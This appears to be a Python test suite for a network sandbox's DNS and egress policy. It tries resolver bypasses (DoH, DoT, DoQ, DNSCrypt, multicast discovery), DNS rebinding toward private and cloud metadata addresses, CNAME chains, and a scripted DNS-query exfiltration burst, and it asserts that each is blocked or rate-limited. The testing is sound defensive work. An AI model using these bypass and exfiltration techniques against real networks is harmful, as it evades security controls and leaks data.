"""Ways around the resolver, through it, and back in by what it answers."""

from __future__ import annotations

from collections.abc import Iterator
from ipaddress import IPv4Address, IPv6Address, ip_address

import dns.message
import dns.rcode
import pytest

from tests.attacks.asking import GATEWAY4, GATEWAY6, framed, message, put, wire
from tests.attacks.builders import get, hello, question, resolve, tcp, udp
from tests.attacks.casework import each
from tests.attacks.conftest import Attacker
from tests.attacks.inside import run_inside
from tests.lab import Lab
from tests.lab.addresses import (
    HOST4,
    HOST6,
    HOST_EXTRA4,
    HOST_PRIVATE4,
    METADATA4,
    PRIVATE4,
    RESOLVER4,
    RESOLVER6,
    v4,
    v6,
)
from tests.lab.stockade import Stockade

A, X4, X6 = v4(10), v4(66), v6(66)
POLICY = "a.test *.w.test"
DOH = "dns.google"
OTHER_DOH = (
    "cloudflare-dns.com",
    "dns.quad9.net",
    "doh.opendns.com",
    "one.one.one.one",
)
SECRET = question("secret.d.test")


@pytest.fixture
def names(lab: Lab) -> Iterator[list[str]]:
    """Names that a test gave the lab, taken back at its end."""
    given: list[str] = []
    yield given
    for name in given:
        lab.remove_name(name)


def test_dns_over_https_is_https(attack: Attacker, lab: Lab, names: list[str]) -> None:
    """A resolver behind TLS or HTTP has a name like every server, and needs a rule.

    Who allows a public resolver allows what it relays: then questions are its business.
    """
    lab.set_name(DOH, a=[A], aaaa=[v6(10)])
    names.append(DOH)
    asked = "Accept: application/dns-message\r\n"
    typed = f"{asked}Content-Type: application/dns-message\r\n"
    sent = f"{typed}Content-Length: {len(SECRET)}\r\n"
    cases = {
        **{f"TLS {host}": hello(host) for host in (DOH, *OTHER_DOH)},
        "GET": get(DOH, "/dns-query?dns=EjQBAAABAAAAAAAA", extra=asked),
        "GET, JSON": get(DOH, "/resolve?name=secret.d.test&type=TXT"),
        "POST": get(DOH, "/dns-query", extra=sent).replace(b"GET", b"POST") + SECRET,
        "oblivious": get(DOH, "/proxy?targethost=x.test&targetpath=/dns-query"),
        "absolute": get(DOH, f"http://{DOH}/dns-query?dns=EjQ"),
    }
    denied = each(attack, POLICY, A, cases, lookups=f"a.test {DOH}")
    assert denied.arrived() == set()
    for case in cases:
        assert denied.denials(case) == {"hostname_not_allowed"}, case
    assert each(attack, "all", A, cases).arrived() == set(cases)
    listed = each(attack, f"{POLICY} {DOH}", A, cases, lookups="a.test")
    assert listed.arrived() == {case for case in cases if case[4:] not in OTHER_DOH}


RESOLVERS = ("8.8.8.8", "9.9.9.9", "2001:4860:4860::8888", X4, X6)
DNSCRYPT = b"q6fnvWj8" + b"\0" * 248 + SECRET
QUIC = bytes.fromhex("c300000001088394c8f03e5157080000449e") + b"\0" * 1182
CHANNELS = {
    "tcp": {
        853: [framed(SECRET), hello(None), hello("dns.x.test")],
        8853: [framed(SECRET)],
        443: [DNSCRYPT, framed(DNSCRYPT)],
        5443: [framed(DNSCRYPT)],
        5353: [framed(SECRET)],
        54: [framed(SECRET)],
        9953: [SECRET],
    },
    "udp": {
        **{port: [SECRET, QUIC] for port in (784, 853, 8853)},
        **{port: [DNSCRYPT, QUIC] for port in (443, 5443, 8443)},
        **{port: [SECRET] for port in (54, 137, 5353, 5354, 5355, 9953)},
    },
}


def test_no_other_port_leads_to_a_resolver(attack: Attacker) -> None:
    """DoT, DoQ, DNSCrypt, unicast mDNS and LLMNR, by address, over TCP and UDP."""
    for address in RESOLVERS:
        steps = [
            make(address, port, data, **options)
            for make, options, kind in (
                # Both end with an answer: this is for a machine that is busy.
                (tcp, {"half_close": True, "linger": 5.0}, "tcp"),
                (udp, {"wait": 5.0}, "udp"),
            )
            for port, messages in CHANNELS[kind].items()
            for data in messages
        ]  # fmt: skip
        denied = attack(POLICY, resolve("a.test"), *steps)
        assert {key.address for key in denied.packets} <= {RESOLVER4, RESOLVER6}
        assert denied.reasons(kind="udp") == {"address_not_allowed"}
    control = attack("all", *steps)
    for kind, ports in CHANNELS.items():
        arrived = {entry.port for entry in control.run.saw(kind=kind, address=X6)}
        assert arrived == set(ports), kind


GROUPS = {
    5353: ("224.0.0.251", "ff02::fb%eth0", "ff01::fb%eth0", "ff05::fb%eth0"),
    5355: ("224.0.0.252", "ff02::1:3%eth0"),
    1900: ("239.255.255.250", "ff02::c%eth0", "ff05::c%eth0", "ff08::c%eth0"),
    137: ("255.255.255.255", "100.127.0.255", "100.127.255.255"),
    138: ("255.255.255.255",),
    3702: ("239.255.255.250", "ff02::c%eth0"),
    53: ("224.0.0.1", "224.0.0.251", "255.255.255.255", "ff02::1%eth0", "ff0e::fb"),
    9: ("224.0.0.1", "224.0.1.1", "232.1.2.3", "ff02::1%eth0", "ff0e::101"),
}
SHOUT = """
def shout(host, port):
    family, kind, _, _, address = socket.getaddrinfo(host, port, 0, socket.SOCK_DGRAM)[0]
    with socket.socket(family, kind) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        if family == socket.AF_INET:
            sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
        else:
            sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
        sock.settimeout(0.05)
        sock.sendto(bytes.fromhex(given["message"]), address)
        return sock.recv(100).hex()
result = [tried(shout, *item)["said"] for item in given["to"]]
"""


def test_no_group_is_asked(stockade: Stockade) -> None:
    """mDNS, LLMNR, NetBIOS, SSDP and WS-Discovery: nobody outside hears them or answers.

    Neither by group nor by broadcast, nor from the gateway itself.
    """
    to = [(host, port) for port, hosts in GROUPS.items() for host in hosts]
    to += [(host, p) for host in (GATEWAY4, GATEWAY6) for p in GROUPS if p != 53]
    given = {"message": question("secret.local").hex(), "to": to}
    shouted = run_inside(stockade, SHOUT, policy="all", arguments=given)
    for said, where in zip(shouted.value, to, strict=True):
        assert "rror" in said, (where, said)
    assert sum(shouted.packets.values()) == 0
    given["to"] = [
        (address, port) for address in (X4, X6) for port in GROUPS if port != 53
    ]
    control = run_inside(stockade, SHOUT, policy="all", arguments=given)
    assert len(control.run.saw(kind="udp")) == len(given["to"])


# Answers are waited for, a few at a time: on a slow machine questions would else be lost in
# queues, and be none of those that leave.
EXFILTRATE = """
import select
def ask(server, number, stream):
    name = b"\\x18" + b"%024d" % number + b"\\1w\\4test\\0"
    message = b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + name + b"\\0\\1\\0\\1"
    socks[server, stream].send(len(message).to_bytes(2, "big") * stream + message)
def answered(sock):
    data = got.pop(sock, b"") + sock.recv(65_536)
    if sock.type != socket.SOCK_STREAM:
        return 1
    count = 0
    while len(data) > 2 and len(data) >= (size := 2 + int.from_bytes(data[:2], "big")):
        data, count = data[size:], count + 1
    got[sock] = data
    return count
def collect(count):
    end = time.monotonic() + 2
    while count > 0 and (left := end - time.monotonic()) > 0:
        ready, _, _ = select.select(list(socks.values()), [], [], left)
        count -= sum(map(answered, ready))
servers = given
socks, got = {}, {}
for server in servers:
    for stream in (False, True):
        kind = socket.SOCK_STREAM if stream else socket.SOCK_DGRAM
        sock = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, kind)
        sock.connect((server, 53))
        socks[server, stream] = sock
started = time.monotonic()
keys = list(socks)
for number in range(1800):
    ask(keys[number % len(keys)][0], number, keys[number % len(keys)][1])
    if number % 20 == 19:
        collect(20)
result = time.monotonic() - started
"""
BURST, RATE = 1000, 20


def test_names_under_a_wildcard_carry_out_only_so_much(stockade: Stockade) -> None:
    """A residual risk, bounded: new names are limited, by whatever way they are asked.

    All that were asked of a resolver are on record, and so are those that were not.
    """
    servers = [GATEWAY4, GATEWAY6, X4]
    done = run_inside(stockade, EXFILTRATE, policy=POLICY, arguments=servers)
    told = {entry.name.lower() for entry in done.run.saw(kind="dns")}
    assert BURST / 2 < len(told) <= BURST + RATE * (done.value + 2)
    records = [flow for flow in done.run.flows if flow["kind"] == "dns"]
    allowed = {flow["name"] for flow in records if flow["verdict"] == "allow"}
    assert told <= allowed
    refused = [flow for flow in records if flow["verdict"] == "deny"]
    assert {flow["reason"] for flow in refused} == {"too_many_questions"}


INSIDE4 = (
    *(PRIVATE4, HOST4, METADATA4, "127.0.0.1", "100.64.0.10", "100.127.0.2", "0.0.0.0"),
    *("172.16.0.1", "192.168.1.1", "224.0.0.251", "255.255.255.255"),
)
OTHERS = (
    *(
        "10.255.255.255",
        "172.31.255.254",
        "192.168.255.1",
        "127.255.255.254",
        "0.1.2.3",
    ),
    *(
        "100.127.0.0",
        "100.127.0.5",
        "100.126.0.1",
        "100.127.255.255",
        "100.100.100.200",
    ),
    *("168.63.129.16", "169.254.1.1", "169.254.170.2", "192.0.0.8", "192.0.0.192"),
    *("192.88.99.1", "198.18.0.1", "198.19.255.254", "239.255.255.250", "240.0.0.1"),
    *(HOST_EXTRA4, HOST_PRIVATE4, HOST6, "::", "::1", "::2", "fe80::1", "fec0::1"),
    *("fc00::1", "fd00:20::10", "fd53:746f:636b::2", "fd53:746f:636b::5", "ff02::fb"),
    *("ff0e::1", "fd00:ec2::254", "fd20:ce::254", "100::1", "2001:10::1", "2001::1"),
    *("5f00::1", "4000::1", "e000::1", "fbff::1"),
)


def forms(address: str) -> list[str]:
    """IPv6 addresses that carry an IPv4 address, by every format there is."""
    inner = int(IPv4Address(address))
    numbers = [
        inner,  # compatible
        0xFFFF << 32 | inner,  # mapped
        0xFFFF << 48 | inner,  # translated, RFC 2765
        int(IPv6Address("64:ff9b::")) | inner,
        int(IPv6Address("64:ff9b:1::")) | inner,
        int(IPv6Address("64:ff9b:1:fffe::")) | inner,
        int(IPv6Address("2002::")) | inner << 80 | 1,
        int(IPv6Address("2002::")) | inner << 80,
        int(IPv6Address("2001::")) | inner << 64,  # a Teredo server
        int(IPv6Address("2001::")) | inner ^ 0xFFFFFFFF,  # a Teredo client
        int(IPv6Address("fe80::5efe:0:0")) | inner,  # ISATAP
    ]
    return [str(IPv6Address(number)) for number in numbers]


def test_no_answer_leads_inside(
    stockade: Stockade, attack: Attacker, lab: Lab, names: list[str]
) -> None:
    """Rebinding in every form: such an address is neither given nor connected to.

    The same names pass once they have ordinary addresses.
    """
    barred = [*INSIDE4, *OTHERS, *(form for one in INSIDE4 for form in forms(one))]
    barred = list(dict.fromkeys(barred))
    given = {f"n{number}.rebinding.test": one for number, one in enumerate(barred)}
    names += given
    for name, one in given.items():
        is_v4 = ip_address(one).version == 4
        lab.set_name(name, a=[one] * is_v4, aaaa=[one] * (not is_v4), ttl=0)
    questions = {
        name: message(wire(name), ends=b"\0\x1c\0\1" if ":" in one else b"\0\1\0\1")
        for name, one in given.items()
    }
    asked = put(stockade, "*.rebinding.test", questions)
    assert asked.names() == set(given)
    for name, one in given.items():
        assert asked.answers(name), (one, asked.raw[name])
        assert not dns.message.from_wire(asked.answers(name)[0]).answer, one
    assert not [f for f in asked.report.run.flows if f["verdict"] == "allow"]
    requests = {name: get(name) for name in given}
    denied = each(attack, "*.rebinding.test", X4, requests)
    assert denied.arrived() == set()
    assert {k.address for k in denied.outcome.packets} <= {RESOLVER4, RESOLVER6}
    for name in given:
        lab.set_name(name, a=[A], aaaa=[v6(10)], ttl=0)
    control = each(attack, "*.rebinding.test", X4, requests)
    assert control.arrived() == set(given)


def test_chains_end_somewhere_or_nowhere(
    stockade: Stockade, attack: Attacker, lab: Lab, names: list[str]
) -> None:
    """Eight hops are followed; more, circles, and ends that are inside lead nowhere."""

    def chain(first: str, hops: int, last: str) -> str:
        """The first name of a chain to *last*; each hop is a name of its own."""
        hop = [
            f"{first}.chain.test",
            *(f"{first}-{n}.hop.test" for n in range(1, hops)),
        ]
        for name, target in zip(hop, [*hop[1:], last], strict=True):
            lab.set_name(name, cname=target)
            names.append(name)
        return hop[0]

    good = {chain(f"good{hops}", hops, "a.test") for hops in (1, 2, 8)}
    good.add(chain("denied", 2, "d.test"))
    bad = {chain(f"long{hops}", hops, "a.test") for hops in (9, 20, 31)}
    bad |= {chain(f"circle{n}", n, f"circle{n}.chain.test") for n in (1, 2, 5)}
    bad |= {chain(f"inside{n}", n, "private.test") for n in (1, 2, 8)}
    bad |= {chain("metadata", 3, "metadata.test"), chain("nowhere", 3, "nx.test")}
    bad.add(chain("mapped", 1, "mapped.test"))
    cases = {name: message(wire(name)) for name in good | bad}
    asked = put(stockade, "*.chain.test", cases)
    told = {name for name in cases if b"\xcb\0\x71" in asked.answers(name)[0]}
    assert told == good
    hidden = sorted({name for name in names if name.endswith(".hop.test")} | {"d.test"})
    members = put(
        stockade, "*.chain.test", {name: message(wire(name)) for name in hidden}
    )
    assert members.is_silent()
    requests = {name: get(name) for name in (*cases, *hidden)}
    reached = each(attack, "*.chain.test", X4, requests, lookups=" ".join(sorted(good)))
    assert reached.arrived() == good


LATER = """
def stream(host, port):
    sock = socket.create_connection((host, port), timeout=5)
    sock.settimeout(5)
    return sock
def greeted(address):
    with stream(address, 22) as sock:
        return sock.recv(100).decode("latin-1")
def echoes(sock):
    sock.sendall(b"\\0ping")
    return sock.recv(100).decode("latin-1")
known = {name: socket.gethostbyname(name) for name in given["names"]}
kept = stream(given["names"][0], 7000)
before = tried(echoes, kept)["said"]
time.sleep(6)
result = {name: tried(greeted, address)["said"] for name, address in known.items()}
result["kept"] = [before, tried(echoes, kept)["said"]]
result["untold"] = tried(greeted, given["untold"])["said"]
"""


def test_what_was_told_holds_longer_than_its_time_to_live(stockade: Stockade) -> None:
    """A client that keeps an address for longer than it should, and one that stays.

    ssh has no name in it: what was looked up is all there is. What never was is denied.
    """
    given = {"names": ["ttl0.test", "ttl5.test", "rotating.test"], "untold": X4}
    policy = " ".join(given["names"])
    done = run_inside(stockade, LATER, policy=policy, arguments=given)
    for name in given["names"]:
        assert done.value[name].startswith("SSH-"), done.value
    assert done.value["kept"] == ["\0ping", "\0ping"]
    assert not done.value["untold"].startswith("SSH-2.0-lab")
    assert not done.run.saw(kind="tcp", address=X4)
